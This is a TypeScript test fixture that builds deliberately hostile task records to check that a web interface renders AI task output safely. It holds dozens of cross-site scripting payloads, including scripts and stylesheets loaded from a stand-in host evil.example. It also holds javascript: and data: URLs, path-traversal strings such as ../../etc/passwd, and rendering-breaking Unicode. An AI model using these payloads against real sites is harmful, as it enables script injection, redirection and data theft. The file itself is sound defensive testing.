/** Hostile content of a task: markup, addresses and characters that have fooled pages before. */
import { report, type ScriptedCore } from "../ScriptedCore.ts"
import type { Service } from "../Service.ts"

const run = "globalThis.hacked=1;alert(1)"

const tags = [
  "img",
  "svg",
  "video",
  "audio",
  "body",
  "iframe",
  "object",
  "embed",
  "input",
  "details",
  "marquee",
  "form",
  "math",
  "style",
  "link",
  "base",
  "meta",
  "template",
  "select",
  "textarea",
  "xmp",
  "noscript",
  "isindex",
  "frameset",
  "table"
]
const handlers = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover"]

const elements = tags.flatMap((tag) =>
  handlers.slice(0, 4).map((handler) => `<${tag} src=x href=x autofocus open ${handler}="${run}"></${tag}>`)
)

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<scr<script>ipt>${run}</script>`,
  `"><script>${run}</script>`,
  `</code></pre><script>${run}</script>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/x.png) }</style>`,
  `<form action="https://evil.example"><button>go</button></form>`,
  `<img src="https://evil.example/pixel.png">`,
  `<!--><img src=x onerror="${run}">-->`,
  `<![CDATA[<img src=x onerror="${run}">]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `{{constructor.constructor('${run}')()}}`,
  "${" + run + "}"
]

const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java&#115;cript:alert(1)",
  "&#x6A;avascript:alert(1)",
  "javascript&colon;alert(1)",
  "\u0001javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "filesystem:https://evil.example/1",
  "view-source:https://evil.example",
  "about:blank",
  "//evil.example",
  "\\\\evil.example",
  "https:evil.example",
  "https://user:secret@evil.example/",
  "intent://evil#Intent;end",
  "ws://evil.example"
]

const markdown = addresses.flatMap((address) => [`[click](${address})`, `![image](${address})`, `<${address}>`]).concat(
  [
    "[a]: javascript:alert(1)\n\n[a]",
    "![pixel](https://evil.example/pixel.png)",
    "[![pixel](https://evil.example/pixel.png)](javascript:alert(1))",
    "[https://bank.example](https://evil.example)",
    "```html\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> | b |\n| - | - |\n| <script>alert(1)</script> | [x](javascript:alert(1)) |"
  ]
)

const shapes = [
  "a".repeat(1_000_000),
  "x ".repeat(500_000),
  `${">".repeat(10_000)} deep`,
  `${"- ".repeat(5000)}deep`,
  "[".repeat(20_000),
  "*".repeat(20_000),
  `${"`".repeat(9999)}x`,
  "<".repeat(20_000),
  "![".repeat(10_000),
  `${"| a ".repeat(2000)}\n${"| - ".repeat(2000)}`,
  "_a".repeat(20_000),
  "\u202Egnp.exe\u202C \u2066\u2067\u2068 right to left",
  "\u0300".repeat(5000),
  "\uFEFF\u200B\u200D\u2028\u2029",
  "‮".repeat(500),
  "👩‍👩‍👧‍👦".repeat(3000)
]

export const hostileTexts: ReadonlyArray<string> = [...scripts, ...elements, ...markdown, ...shapes]

const paths = [
  "../../etc/passwd",
  "https://evil.example/x",
  "//evil.example/x",
  "javascript:alert(1)",
  "a/%2e%2e/b",
  "a\\..\\b",
  "",
  "/",
  "a//b",
  "x?y#z"
]

/** Creates tasks whose every visible field is hostile. */
export const createHostile = async (
  service: Service,
  core: ScriptedCore,
  token: string
): Promise<ReadonlyArray<string>> => {
  const uuids: Array<string> = []
  const start = async () => {
    const { body } = await service.create(token, scripts[0] ?? "")
    uuids.push(body.uuid)
    return core.run(body.uuid)
  }
  const short = hostileTexts.map((text) => text.slice(0, 20_000))
  const files = paths.map((path, index) => ({
    type: index % 2 === 0 ? "file" : "image",
    file: { id: "1", name: hostileTexts[index], mime_type: elements[index], provider_data: { path } }
  }))
  const messages = short.slice(0, 60).flatMap((text, index) => [
    { role: ["user", "assistant", "system", text.slice(0, 500)][index % 4], content: text },
    {
      role: "assistant",
      content: "",
      tool_calls: [{ id: text, name: text, arguments: { [text.slice(0, 900)]: text } }]
    },
    { role: "tool", tool_call_id: text, content: JSON.stringify({ text }), is_error: true },
    { role: 7, content: [null, [text], { type: text }] }
  ])
  const metadata = { model: scripts[0], finish_reason: elements[0], usage: { total_tokens: "many" } }
  await report(await start(), {
    type: "completed",
    turn: { output: short.slice(0, 120).map((text) => ({ type: "text", text })), messages, metadata }
  })
  await report(await start(), {
    type: "completed",
    turn: {
      output: [...short.slice(120).map((text) => ({ type: "text", text })), ...files],
      messages: markdown,
      metadata
    }
  })
  await report(await start(), {
    type: "completed",
    turn: { output: shapes.map((text) => ({ type: "text", text })), messages: scripts, metadata: [] }
  })
  await report(await start(), { type: "failed", code: "internal", message: scripts.join("\n").slice(0, 900) })
  const tool_calls = short.slice(0, 20).map((text, index) => ({
    id: `${index} ${text.slice(0, 200)}`,
    name: text.slice(0, 200),
    arguments: { [text.slice(0, 500)]: text }
  }))
  await report(await start(), {
    type: "interrupted",
    tool_calls,
    turn: { output: "no list", messages: {}, metadata: null, interrupt: scripts }
  })
  return uuids
}
